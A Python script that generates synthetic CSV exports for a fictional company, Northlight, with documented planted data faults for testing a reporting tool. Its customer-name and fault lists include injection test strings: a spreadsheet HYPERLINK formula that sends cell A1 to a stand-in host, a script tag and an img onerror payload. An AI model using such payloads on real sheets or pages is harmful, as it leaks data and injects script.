"""Writes the exports of Northlight, the sample company, into `inbox/` beside this file: the same bytes every time.

    python3 sample-data/generate.py            rewrite the inbox
    python3 sample-data/generate.py --check    status 1 if the inbox is not what would be written
    python3 sample-data/generate.py --faults   the planted faults as a Markdown table, with file and line

`company.py` invents the business; this file turns it into what an operations team would drop, faults included (FAULTS below).
"""
import sys
from datetime import date, datetime, timedelta
from pathlib import Path
from random import Random

sys.dont_write_bytecode = True
from company import AS_OF, RATE, Book, between, make_leads, make_nps, make_spend, make_usage, months_on, pick  # noqa: E402

INBOX = Path(__file__).resolve().parent / "inbox"
LAST_MONTH = date(2026, 10, 31)
NAMES = [  # given to the customers that moved most of late: text that must stay text
    '=HYPERLINK("http://x.example/?c="&A1,"Click me")', "<script>alert(1)</script> Ltd", "@Home Logistics", "-Minus GmbH & Co. KG",
    "+Plus Telecom", 'O\'Brien, "Bud" & Sons']

# ---------------------------------------------------------------------------------------------------------------------------
# Every fault on purpose: (file, data row, "after" or "before": a broken copy of that row stands there, or "at": that row itself is changed,
# or "drop": that row is left out; changes by column; what it is; what the report should say).
FAULTS = [
    ("nps-2026-q3.csv", 40, "after", {"response_id": "R-90001", "score": "11", "responded_at": "2026-08-03 10:12:00"},
     "a score of 11", "set aside: a score is 0 to 10"),
    ("nps-2026-q3.csv", 90, "after", {"response_id": "R-90002", "score": "7.5", "responded_at": "2026-08-19 15:40:00"},
     "a score of 7.5", "set aside: a score is whole"),
    ("nps-2025-q1.csv", 12, "after", {"response_id": "R-90003", "score": "9", "responded_at": "", "invited_at": "", "comment": "Typed in from the phone"},
     "a score without any date", "set aside: neither `responded_at` nor `invited_at`"),
    ("nps-2025-q4.csv", 33, "after", {"response_id": "R-90004", "score": "8", "responded_at": "", "comment": "Asked by phone, \"all good\""},
     "a score without `responded_at`", "kept, dated by `invited_at`"),
    ("nps-2026-q2.csv", 21, "after", {"response_id": "R-90005", "score": "6", "responded_at": "2026-05-07 09:00:00", "comment": '=1+1 is the best formula your export gave us, "thanks"'},
     "a comment that looks like a formula", "kept, shown as text"),
    ("subscriptions-2026-10-31.csv", 200, "after", {"subscription_id": "SUB-9001-1", "start_date": "2026-03-01", "end_date": "2025-03-01"},
     "an end before its start", "set aside, with its ARR"),
    ("subscriptions-2026-10-31.csv", 410, "after", {"subscription_id": "SUB-9002-1", "start_date": "2026-06-31", "end_date": "2027-07-01"},
     "31 June", "set aside: no such date"),
    ("subscriptions-2026-10-31.csv", 600, "before", {"seats": "1", "arr": "432.00"},
     "one term twice in the file, first with another amount", "the later row counts; one row replaced, both amounts named"),
    ("subscriptions-2026-10-31.csv", ("typo", 0), "at", {"arr": "x10"}, "ARR with a zero too many", "replaced by the corrected file, with both amounts"),
    ("subscriptions-2026-10-31.csv", ("typo", 1), "at", {"currency": "USD"}, "a euro contract entered in dollars", "replaced by the corrected file"),
    ("subscriptions-2026-10-31.csv", ("typo", 2), "drop", {}, "the renewal is missing", "the corrected file brings it: no churn"),
    ("subscriptions-china-2026-10-31.csv", 30, "after", {"subscription_id": "SUB-9003-1", "Account ID": ""},
     "no customer", "set aside: `customer_id` is required"),
    ("spend-finance-2026.csv", 77, "after", {"amount": "abc", "campaign": "press kit", "vendor": "Inkwell Studio"}, "an amount of `abc`", "set aside"),
    ("spend-finance-2026.csv", 251, "after", {"amount": "18400.00", "currency": "BRL", "campaign": "São Paulo breakfast", "vendor": "Café Paulista", "channel": "events"},
     "a currency without a rate (BRL)", "set aside: no rate in `fx_rates`"),
    ("spend-finance-2026.csv", 402, "at", {"channel": ""}, "a cost without a channel", "kept, under `(none)`"),
    ("leads-2025.csv", 700, "after", {"lead_id": "L-90001", "created_at": "2025-02-30T09:15:00Z"}, "30 February", "set aside: no such date"),
    ("leads-2025.csv", 1800, "after", {"lead_id": "L-90002", "created_at": "2025-06-12T10:00:00Z", "first_response_at": "2025-06-12T10:20:00Z", "mql_at": "", "sql_at": "",
     "opportunity_at": "2025-06-09T09:00:00Z", "won_at": "2025-06-10T16:30:00Z", "lost_at": "", "amount": "8640.00", "currency": "USD"},
     "won two days before it was created", "kept and counted; the span is left out and reported"),
    ("leads-2024.csv", 1500, "after", {"lead_id": ""}, "a lead without an id", "set aside: `lead_id` is required"),
    ("leads_export_2026-10-31.csv", 900, "at", {"company": "<img src=x onerror=alert(1)>"}, "markup for a name", "kept, shown as text"),
    ("usage-2026-09-01_2026-11-15.csv", 500, "after", {"customer_id": ""}, "a missing customer_id", "set aside"),
    ("usage-2026-09-01_2026-11-15.csv", 1203, "after", {"customer_id": "C-9999", "active_users": "4", "seats": "5"}, "a customer nobody knows", "kept; no ARR, so in no measure of customers"),
    ("customers-2026-11-15.csv", 150, "at", {"Region": ""}, "no region", "taken from the customer's subscription"),
    ("customers-2026-11-15.csv", 220, "at", {"Industry": "N/A"}, "industry `N/A`", "missing: under `(none)`"),
    ("targets-2026.csv", ("mql_to_sql", "2026-Q4"), "at", {"value": "45"}, "a percent target without its sign", "read as 45 %, and reported as assumed"),
    ("actions-2026-11-15.csv", 8, "at", {"percent": "40%"}, "a percentage with a sign", "read as 40"),
]
OTHER = [  # faults that are whole files
    ("spend-finance-2025 (copy).csv", "the same bytes as `spend-finance-2025.csv`", "read once; the second is named as a copy"),
    ("spend-ads-2026-10-16_2026-11-15.csv", "overlaps `spend-ads-2026-01-01_2026-10-31.csv` by 16 days", "the overlap counts once, and is reported"),
    ("leads_export_2026-11-15.csv", "leads that changed since `leads_export_2026-10-31.csv`", "newer rows win; the older are counted as replaced"),
    ("subscriptions-2026-11-15.csv", "subscriptions with something new in November, all their terms", "replaces those of the export of 31 October"),
    ("subscriptions-2026-10-31 corrected 2026-11-06.csv", "three subscriptions put right", "replaces them, and says by how much"),
    ("customers-2026-11-15.csv", "CRLF line ends, headers `Account ID`, `Customer Name`", "read as it is"),
    ("NPS问卷-2026.csv", "Chinese headers, a byte order mark, no `response_id`", "read as `nps`; the rows add to the others"),
    ("office-plants.csv", "nobody's export", "unrecognised, and said so"),
]

# ---------------------------------------------------------------------------------------------------------------------------
TARGETS = """
arr|2025-Q4|9600000|Elena Brandt;arr|2026-Q1|10700000|Elena Brandt;arr|2026-Q2|12100000|Elena Brandt;arr|2026-Q3|13500000|Elena Brandt
arr|2026-Q4|15000000|Elena Brandt;arr|2026|15000000|Elena Brandt;arr|2026-11|14500000|Elena Brandt;arr|2026-12|15000000|Elena Brandt
net_new_arr|2026-Q1|1100000|Marcus Hale;net_new_arr|2026-Q2|1300000|Marcus Hale;net_new_arr|2026-Q3|1300000|Marcus Hale;net_new_arr|2026-Q4|1400000|Marcus Hale
net_new_arr|2026|5100000|Marcus Hale;net_new_arr|2026-10|450000|Marcus Hale;net_new_arr|2026-11|450000|Marcus Hale;net_new_arr|2026-12|500000|Marcus Hale
cac|2026-Q1|38000|Ines Duarte;cac|2026-Q2|38000|Ines Duarte;cac|2026-Q3|38000|Ines Duarte;cac|2026-Q4|40000|Ines Duarte;cac|2026|39000|Ines Duarte
cac|2026-Q4|38000|Ines Duarte|channel|paid search;cac|2026-Q4|28000|Ines Duarte|channel|organic;cac|2026-11|40000|Ines Duarte
cac_payback_months|2026-Q4|18|Ines Duarte;cac_payback_months|2026|18|Ines Duarte;ltv_cac|2026-Q4|3.5|Elena Brandt
nrr|2026-Q4|1.08|Sofia Lindqvist;nrr|2026|1.08|Sofia Lindqvist;grr|2026-Q4|0.90|Sofia Lindqvist;logo_churn_rate|2026-11|0.012|Sofia Lindqvist
renewal_rate|2026-Q4|0.90|Sofia Lindqvist;nps|2026-Q3|38|Sofia Lindqvist;nps|2026-Q4|42|Sofia Lindqvist;nps|2026|40|Sofia Lindqvist
nps_response_rate|2026-Q4|0.42|Sofia Lindqvist;lead_to_mql|2026-Q3|40%|Ines Duarte;lead_to_mql|2026-Q4|42%|Ines Duarte;lead_to_mql|2026-11|42%|Ines Duarte
mql_to_sql|2026-Q4|0.45|Ines Duarte;sql_to_opportunity|2026-Q4|0.60|Marcus Hale;win_rate|2026-Q3|0.22|Marcus Hale;win_rate|2026-Q4|0.22|Marcus Hale
win_rate|2026|0.23|Marcus Hale;average_deal|2026-Q4|40000|Marcus Hale;sales_cycle_days|2026-Q4|50|Marcus Hale;lead_response_in_time|2026-W46|0.65|Ines Duarte
lead_response_in_time|2026-Q4|0.65|Ines Duarte;lead_response_minutes|2026-Q4|35|Ines Duarte;active_rate|2026-Q4|0.95|Sofia Lindqvist
health_score|2026-Q4|75|Sofia Lindqvist;arr_at_risk_share|2026-Q4|0.05|Sofia Lindqvist;arr_per_fte|2026-Q4|150000|Elena Brandt
arr|2026-Q4|2700000|Hana Sato|region|APAC;net_new_arr|2026-Q4|450000|Jonas Weber|region|EMEA;arr|2027-Q1|16200000|Elena Brandt
"""
ACTIONS = """
Marketing|Turn broad match off for generic search terms|Ines Duarte|2026-07-02|2026-07-10|2026-07-14|done|100|
Marketing|Negative keyword list, weekly review|Ines Duarte|2026-07-15|2026-08-15|2026-08-12|done|100|
Marketing|Tender the search agency again|Ines Duarte|2026-08-01|2026-09-30|2026-10-06|done|100|
Marketing|Move 15 % of the search budget to partners|Ines Duarte|2026-10-01|2026-11-06||in progress|70|
Marketing|Landing pages for search, one a segment|Lukas Brand|2026-09-15|2026-10-30||in progress|60|
Marketing|Insight launch film and case studies|Lukas Brand|2026-10-05|2026-12-04||in progress|35|INI-1
Marketing|Chinese case studies, three industries|李晓雨|2026-09-01|2026-11-20||in progress|80|INI-2
Marketing|上海数字化展 follow-up mails|李晓雨|2026-11-10|2026-11-18||in progress|25|INI-2
Marketing|Price page with usage tiers, draft|Lukas Brand|2026-11-02|2026-12-18||in progress|40|INI-3
Marketing|Retire the old event scanner|Lukas Brand|2026-06-01|2026-07-31||cancelled|0|
Sales|Answer every inbound lead within the hour|Marcus Hale|2026-07-01|2026-09-30|2026-10-02|done|100|
Sales|Play-book for competitor displacement|Devon Clark|2026-08-17|2026-10-16|2026-10-15|done|100|
Sales|Insight certification for all account executives|Maya Torres|2026-09-01|2026-10-31||in progress|75|INI-1
Sales|Two account executives for Shanghai|Hana Sato|2026-08-01|2026-10-15||in progress|50|INI-2
Sales|Discount approval above 15 %|Marcus Hale|2026-10-12|2026-11-13|2026-11-12|done|100|
Sales|Enterprise pipeline review, every Monday|Marcus Hale|2026-10-05|2026-12-31||in progress|45|
Sales|Territory plan 2027|Marcus Hale|2026-11-16|2026-12-11||not started|0|
Sales|Reseller contract in Japan|Hana Sato|2026-09-14|2026-11-27||in progress|30|
Customer Success|Call every account with health below 40|Sofia Lindqvist|2026-10-19|2026-11-13||in progress|65|
Customer Success|Renewal desk for small businesses|Camille Roux|2026-07-06|2026-09-25|2026-09-24|done|100|
Customer Success|Executive sponsors for the 20 largest|Sofia Lindqvist|2026-08-03|2026-10-02|2026-10-20|done|100|
Customer Success|Reply to each detractor within 48 hours|Camille Roux|2026-10-01|2026-12-31||in progress|55|
Customer Success|Onboarding in Mandarin|陈思远|2026-09-07|2026-11-10||in progress|85|INI-2
Customer Success|Reference pool, 12 customers|Camille Roux|2026-11-02|2027-01-15||in progress|15|INI-1
Product|Exports above 50,000 rows|Tom Okafor|2026-08-10|2026-10-09|2026-10-08|done|100|
Product|Single sign-on for Flow Business|Tom Okafor|2026-07-20|2026-10-30||in progress|80|
Product|Insight alerts, beta with ten customers|Ada Moreau|2026-10-12|2026-11-27||in progress|50|INI-1
Product|Data residency in China|Ada Moreau|2026-05-11|2026-09-30|2026-09-28|done|100|INI-2
Product|Usage metering for the new prices|Tom Okafor|2026-10-26|2027-01-08||in progress|20|INI-3
RevOps|Channel on every cost in the ledger|Nadia Petrov|2026-07-13|2026-08-28|2026-09-02|done|100|
RevOps|Weekly CAC by channel to all leads|Nadia Petrov|2026-07-20|2026-08-07|2026-08-07|done|100|
RevOps|Link won leads to their customers|Nadia Petrov|2026-10-05|2026-11-13||in progress|90|
RevOps|Targets for 2027|Elena Brandt|2026-11-09|2026-12-18||in progress|10|
RevOps|Survey ids from 问卷|Nadia Petrov|2026-11-16|2026-12-04||not started|0|
"""
INITIATIVES = [
    ["INI-1", "Northlight Insight", "new_product", "scale", "acquire", "Operations leads in companies of 50 to 2,000 people who already plan in Flow",
     "They export to spreadsheets every Friday to see whether plans held", "Dashboards and alerts over the work that Flow already records",
     "The Friday evening back, and no more stale numbers", "Sold beside Flow by the same account executives; free for 30 days", "Competitors sell dashboards without the data",
     "2025-01-06", "2025-04-01", "2026-12-31", "no", "yes", "no", "yes", "yes", "no", "ready", "ready", "draft", "ready", "draft"],
    ["INI-2", "中国市场 (China)", "new_market", "validate", "acquire", "Manufacturers and logistics firms in the Yangtze delta with foreign parents",
     "Head office tools are slow or blocked, local ones do not report to the group", "Flow, hosted in Shanghai, in Chinese, with group reporting",
     "One plan for the plant and for head office", "Two local sellers, WeChat, fairs, and resellers", "Data residency is ready since September 2026",
     "2024-07-01", "2024-09-02", "2027-06-30", "yes", "no", "yes", "no", "yes", "yes", "ready", "draft", "draft", "draft", "missing"],
    ["INI-3", "Usage-based pricing", "business_model", "explore", "retain", "Small businesses that renew fewer seats than they bought",
     "They pay for seats that stand empty and leave at renewal", "Pay for active seats, settled each quarter", "Bills that follow the season",
     "Offered at renewal by customer success", "A third of small customers leave each year", "2026-10-05", "2027-03-01", "2027-12-31",
     "no", "yes", "no", "yes", "no", "yes", "draft", "missing", "missing", "missing", "missing"]]
NOTES = """
2026-W46|Two large deals in DACH moved from Friday to Monday; both are signed since.|net_new_arr||Elena Brandt|
2026-11|Paid search is being retendered, so costs of the new agency start in December.|cac||Ines Duarte|
2026-10|The Cologne fair took half of October's events budget; its leads close in Q1.||acquisition|Ines Duarte|
2026-Q3|The committee kept the hiring plan and asked for a decision on usage-based pricing in November.|||Elena Brandt|leaders; committee
2026-10|Thank you for a busy month. Reports now load twice as fast, and the mobile app shows dashboards.|||Your Northlight team|customers
2026-10|感谢您的支持。报表加载速度提高一倍，手机应用现已支持看板。|||Northlight 团队|customers-zh
"""
VALUE_MAP = """
INI-1|job|Tell the board each week whether plans held|Weekly mail with three numbers|12 interviews, 2024-11
INI-1|pain|Friday evenings go into spreadsheets|Dashboards that fill themselves|Survey: 6.2 hours a week
INI-1|pain|Numbers differ from team to team|One definition a metric, shown beside it|
INI-1|gain|See trouble before the customer does|Alerts|Beta: 7 of 10 customers acted on one
INI-2|job|Report the plant's plan to head office|Group roll-up in two languages|5 pilots
INI-2|pain|Foreign tools are slow|Hosted in Shanghai|Median page load 0.4 s
INI-2|pain|数据不能出境|Data stays in the country|Audit of 2026-09
INI-2|gain|Local support in working hours|Mandarin onboarding|
INI-3|job|Keep software cost in line with the season||
INI-3|pain|Empty seats at renewal|Active-seat billing|Usage of 2025: 31 % of small customers' seats idle
INI-3|gain|No negotiation each year||
"""
TEAMS = {"Engineering": (14, 36), "Sales": (9, 22), "Marketing": (5, 10), "Customer Success": (6, 15), "General": (5, 11)}
FX = {"EUR": [(date(2023, 10, 1), 1.06), (date(2024, 8, 1), 1.11), (date(2025, 1, 1), 1.04), (date(2026, 1, 1), RATE["EUR"]), (date(2026, 11, 1), 1.18)],
      "CNY": [(date(2023, 10, 1), 0.137), (date(2025, 1, 1), 0.1365), (date(2026, 1, 1), RATE["CNY"]), (date(2026, 11, 1), 0.1415)]}
STAGES = ["first_response_at", "mql_at", "sql_at", "opportunity_at", "won_at", "lost_at"]
LEAD = ["lead_id", "created_at", "company", "channel", "segment", "region", "industry", "owner"] + STAGES + ["amount", "currency", "customer_id"]
TERM = ["subscription_id", "customer_id", "plan", "status", "start_date", "end_date", "seats", "arr", "currency", "region"]


def lead_row(lead, known, form):
    """A lead as the CRM knew it at the end of a day."""
    row = {k: lead[k] for k in LEAD if k in lead and not isinstance(lead[k], datetime)}
    for stage in ["created_at"] + STAGES:
        if stage in lead and lead[stage].date() <= known:
            row[stage] = lead[stage].strftime(form)
    if "opportunity_at" in row:
        row["amount"] = f"{lead['amount']}.00"
    else:
        row.pop("amount", None), row.pop("currency", None)
    if "won_at" in row and int(lead["lead_id"][2:]) % 29:                     # now and then nobody linked the customer
        row["customer_id"] = lead["customer"]["id"]
    return row


def term_rows(terms, known):
    """Terms signed by a day, as billing shows them then."""
    terms = [t for t in terms if t["signed"] <= known]
    starts = {(t["customer_id"], t["start_date"]) for t in terms}
    rows = []
    for t in sorted(terms, key=lambda t: (t["customer_id"], t["subscription_id"], t["start_date"])):
        status = "scheduled" if t["start_date"] > known else "active" if t["end_date"] > known else \
            "renewed" if (t["customer_id"], t["end_date"]) in starts else "cancelled"
        rows.append({**t, "status": status, "arr": f"{t['arr']}.00"})
    return rows


def subscriptions(book, files):
    """Two exports of 31 October, the changes of November, and the correction; trials and drafts ride along."""
    r, terms = Random("northlight trials"), [t for t in book.terms if t["signed"] <= AS_OF]
    new = {t["subscription_id"] for t in terms if t["signed"] > LAST_MONTH or LAST_MONTH < t["start_date"] or LAST_MONTH < t["end_date"] <= AS_OF}
    china = {c["id"] for c in book.customers if c["currency"] == "CNY"}
    old = term_rows(book.terms, LAST_MONTH)
    main, cn = [t for t in old if t["customer_id"] not in china], [t for t in old if t["customer_id"] in china]
    for i in range(34):
        t, status = pick(r, main), "trial" if i < 25 else "draft" if i < 32 else "void"
        day = date(2024, 6, 1) + timedelta(int(r.random() * 860))
        main.append({**t, "subscription_id": t["subscription_id"] + "-T", "plan": "Insight Team", "status": status, "start_date": day,
                     "end_date": day + timedelta(30) if status == "trial" else months_on(day, 12)})
    main.sort(key=lambda t: (t["customer_id"], t["subscription_id"], f"{t['start_date']}"))
    settled = [t for t in main if t["subscription_id"] not in new and date(2026, 7, 1) < t["start_date"] < LAST_MONTH and t["status"] == "active"
               and (t["customer_id"], t["start_date"]) in {(u["customer_id"], u["end_date"]) for u in main}]
    typos = [next(t for t in settled if t["currency"] == "USD" and 15000 < float(t["arr"][:-3]) < 40000),
             next(t for t in settled if t["currency"] == "EUR"), [t for t in settled if t["currency"] == "USD"][-1]]
    fixed = [t for t in main if t["subscription_id"] in {u["subscription_id"] for u in typos}]
    files["subscriptions-2026-10-31.csv"] = (TERM, main)
    for t in cn:
        t["mrr"], t["Account ID"] = f"{int(t['arr'][:-3]) // 12}.00", t["customer_id"]
    files["subscriptions-china-2026-10-31.csv"] = (["subscription_id", "Account ID"] + TERM[2:7] + ["mrr"] + TERM[8:], cn)
    files["subscriptions-2026-10-31 corrected 2026-11-06.csv"] = (TERM, [dict(t) for t in fixed])
    files["subscriptions-2026-11-15.csv"] = (TERM, [t for t in term_rows(book.terms, AS_OF) if t["subscription_id"] in new])
    return [main.index(t) for t in typos]


def name_the_movers(book):
    """The awkward NAMES go to customers with the largest new terms of the last weeks, so that they are seen."""
    by_id = {c["id"]: c for c in book.customers}
    late = [t for t in book.terms if AS_OF - timedelta(45) < t["start_date"] <= AS_OF and t["signed"] <= AS_OF and t["currency"] != "CNY"]
    late.sort(key=lambda t: (t["start_date"] < date(2026, 11, 9), -t["arr"], t["subscription_id"]))
    for name, cid in zip(NAMES, dict.fromkeys(t["customer_id"] for t in late)):
        by_id[cid]["name"] = name


def build():
    """{file name: (columns, rows as dicts)}, and the faults' rows that only the data could tell."""
    files, leads = {}, make_leads()
    book = Book(leads)
    name_the_movers(book)
    typos = subscriptions(book, files)
    signed = {t["customer_id"] for t in book.terms if t["signed"] <= AS_OF}
    files["customers-2026-11-15.csv"] = (["Account ID", "Customer Name", "Channel", "Segment", "Region", "Industry", "Owner", "Initiative"], [
        {"Account ID": c["id"], "Customer Name": c["name"], "Channel": c["channel"], "Segment": c["segment"], "Region": c["region"],
         "Industry": c["industry"], "Owner": c["owner"], "Initiative": c["initiative"]} for c in book.customers if c["id"] in signed])
    for lead in leads:
        year, zulu = lead["created_at"].year, "%Y-%m-%dT%H:%M:%SZ"
        if year < 2026:
            files.setdefault(f"leads-{year}.csv", (LEAD, []))[1].append(lead_row(lead, AS_OF, zulu if year > 2024 else "%Y-%m-%d %H:%M:%S"))
            continue
        then, now = lead_row(lead, LAST_MONTH, zulu), lead_row(lead, AS_OF, zulu)
        then, now = ({("Created At" if k == "created_at" else k): v for k, v in x.items()} for x in (then, now))
        columns = ["Created At" if k == "created_at" else k for k in LEAD]
        if "Created At" in then:
            files.setdefault("leads_export_2026-10-31.csv", (columns, []))[1].append(then)
        if then != now:
            files.setdefault("leads_export_2026-11-15.csv", (columns, []))[1].append(now)
    columns = ["response_id", "survey", "customer_id", "respondent_id", "invited_at", "responded_at", "score", "comment"]
    zh = dict(zip(("customer_id", "score", "responded_at", "invited_at", "comment"), ("客户编号", "评分", "提交时间", "邀请时间", "评论")))
    for row in make_nps(book):
        at = row["invited_at"]
        chinese = row["currency"] == "CNY" and at.year == 2026
        row = {k: v.strftime("%Y/%m/%d %H:%M" if chinese else "%Y-%m-%d %H:%M:%S") if isinstance(v, datetime) else v for k, v in row.items()}
        if chinese:
            files.setdefault("NPS问卷-2026.csv", (list(zh.values()), []))[1].append({zh[k]: v for k, v in row.items() if k in zh})
        else:
            files.setdefault(f"nps-{at.year}-q{(at.month + 2) // 3}.csv", (columns, []))[1].append(row)
    finance, ads = make_spend()
    columns = list(finance[0])
    for row in finance:
        files.setdefault(f"spend-finance-{row['date'][:4]}.csv", ([c for c in columns if c != "clicks"], []))[1].append(row)
    for row in ads:
        columns_ads = [c for c in columns if c not in ("team", "initiative")]
        if row["date"] < "2026":
            files.setdefault(f"spend-ads-{row['date'][:4]}.csv", (columns_ads, []))[1].append(row)
        if "2026" <= row["date"] <= "2026-10-31":
            files.setdefault("spend-ads-2026-01-01_2026-10-31.csv", (columns_ads, []))[1].append(row)
        if "2026-10-16" <= row["date"]:
            files.setdefault("spend-ads-2026-10-16_2026-11-15.csv", (columns_ads, []))[1].append(row)
    for row in make_usage(book):
        name = "usage-2026-05-24_2026-08-31.csv" if row["date"] < date(2026, 9, 1) else "usage-2026-09-01_2026-11-15.csv"
        files.setdefault(name, (["customer_id", "date", "active_users", "seats"], []))[1].append(row)
    months = [months_on(date(2023, 10, 1), n) for n in range(38)]
    files["headcount.csv"] = (["date", "team", "fte"], [
        {"date": f"{m:%Y-%m}", "team": t, "fte": f"{int(2 * between([(months[0], a), (months[-1], b)], m)) / 2:g}"} for m in months for t, (a, b) in TEAMS.items()])
    plain(files, "targets-2026.csv", "metric period value owner dimension member", TARGETS.replace("\n", ";").strip(";").split(";"))
    plain(files, "actions-2026-11-15.csv", "department task owner start_date due_date done_date status percent initiative", ACTIONS.strip().split("\n"))
    columns, rows = files["actions-2026-11-15.csv"]
    files["actions-2026-11-15.csv"] = (["action_id"] + columns, [{"action_id": f"A-{i + 1:03d}", **row} for i, row in enumerate(rows)])
    names = ("initiative_id name scenario stage goal who need what benefit how why_now start_date launch_date end_date new_customers new_value new_channel "
             "new_pricing competitive_shift high_cost_of_failure messaging_document marketing_pack sales_pack customer_materials advocate_materials").split()
    files["initiatives.csv"] = (names, [dict(zip(names, row)) for row in INITIATIVES])
    plain(files, "value_map.csv", "initiative kind text answered_by evidence", VALUE_MAP.strip().split("\n"))
    plain(files, "notes-2026-11-15.csv", "period text metric section author audience", NOTES.strip().split("\n"))
    first = {}
    for t in book.terms:
        first.setdefault(t["customer_id"], t)
    files["one_off_revenue.csv"] = (["date", "customer_id", "description", "amount", "currency", "initiative"], [
        {"date": c["start"] + timedelta(14), "customer_id": c["id"], "description": "Onboarding", "amount": f"{first[c['id']]['arr'] // 2000 * 100}.00",
         "currency": c["currency"], "initiative": c["initiative"]} for c in book.customers
        if c["segment"] != "smb" and date(2023, 10, 1) <= c["start"] <= AS_OF - timedelta(14) and c["id"] in signed and c["mood"] > 0.3])
    files["fx_rates.csv"] = (["currency", "date", "rate"], [
        {"currency": c, "date": m, "rate": f"{between(points, m):.4f}"} for c, points in FX.items() for m in months])
    files["figures-2026-11-15.csv"] = (["date", "figure", "region", "value", "unit", "kind"], make_figures())
    plain(files, "office-plants.csv", "plant room watered_by light", ["Monstera|3.12|Tuesdays|bright", "Ficus \"Bruno\"|lobby|nobody|dim", "Pothos, hanging|kitchen|everybody|any"])
    return files, {("typo", i): n for i, n in enumerate(typos)}


def make_figures():
    """What no other export has: support tickets of each week and region, and the bank balance at each month's end."""
    dice, rows = Random(20261115), []
    day = date(2025, 1, 6)
    while day <= AS_OF:
        for region, share in (("Americas", 0.45), ("EMEA", 0.38), ("APAC", 0.17)):
            rows.append({"date": day, "figure": "Support tickets", "region": region, "unit": "count", "kind": "flow",
                         "value": round(share * (170 + (day - date(2025, 1, 6)).days * 0.16) * dice.uniform(0.82, 1.18))})
        day += timedelta(7)
    balance, month = 12_400_000, date(2025, 1, 1)
    while (end := months_on(month, 1) - timedelta(1)) <= AS_OF:
        balance -= round(dice.uniform(170_000, 260_000) * (1.6 if "2026-04" <= f"{month:%Y-%m}" <= "2026-06" else 1), -2)
        rows.append({"date": end, "figure": "Cash", "region": "", "value": f"{balance:.2f}", "unit": "money", "kind": "stock"})
        month = months_on(month, 1)
    return rows


def plain(files, name, columns, lines):
    columns = columns.split()
    files[name] = (columns, [dict(zip(columns, line.split("|"))) for line in lines])


def plant(files, found):
    """Puts FAULTS in, and yields (file, row dict or None, what, what the report should say). Rows count from 0, as generated."""
    found.update({(row["metric"], row["period"]): i for i, row in reversed(list(enumerate(files["targets-2026.csv"][1])))})
    originals = {name: list(rows) for name, (_, rows) in files.items()}
    planted = []
    for name, where, how, changes, what, says in FAULTS:
        rows, row = files[name][1], originals[name][found.get(where, where)]
        at = next(i for i, x in enumerate(rows) if x is row)
        if how == "drop":
            row = rows[at - 1]
            del rows[at]
        elif how in ("after", "before"):
            row = {**row, **changes}
            rows.insert(at + (how == "after"), row)
        else:
            row.update({k: row[k].replace(".", "0.") if v == "x10" else v for k, v in changes.items()})
        planted.append((name, row, what, says))
    return planted


def cell(value):
    text = "" if value is None else str(value)
    return '"' + text.replace('"', '""') + '"' if any(c in text for c in ',"\r\n') else text


def render(files):
    """{file name: bytes}, and the line on which each row begins."""
    out, lines = {}, {}
    for name, (columns, rows) in files.items():
        end, line, text = "\r\n" if name.startswith("customers") else "\n", 1, []
        for row in [dict(zip(columns, columns))] + rows:
            lines[name, id(row)] = line
            text.append(",".join(cell(row.get(c)) for c in columns) + end)
            line += text[-1].count("\n")
        out[name] = (b"\xef\xbb\xbf" if name.startswith("NPS") else b"") + "".join(text).encode("utf-8")
    out["spend-finance-2025 (copy).csv"] = out["spend-finance-2025.csv"]
    return out, lines


def main(arguments):
    if arguments not in ([], ["--check"], ["--faults"]):
        print(__doc__, file=sys.stderr)
        return 64
    files, found = build()
    planted = plant(files, found)
    out, lines = render(files)
    if arguments == ["--faults"]:
        for name, row, what, says in planted:
            print(f"| `{name}` | {lines[name, id(row)]} | {what} | {says} |")
        for name, what, says in OTHER:
            print(f"| `{name}` | | {what} | {says} |")
        return 0
    there = {p.name: p for p in INBOX.iterdir()} if INBOX.is_dir() else {}
    wrong = sorted(n for n in set(out) | set(there) if n not in out or n not in there or there[n].read_bytes() != out[n])
    if arguments == ["--check"]:
        for name in wrong:
            print(f"{name}: {'missing' if name not in there else 'not ours' if name not in out else 'differs'}", file=sys.stderr)
        return 1 if wrong else 0
    INBOX.mkdir(exist_ok=True)
    for name in wrong:
        (INBOX / name).write_bytes(out[name]) if name in out else (INBOX / name).unlink()
    print(f"{len(out)} files, {sum(map(len, out.values()))} bytes in {INBOX.name}/", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
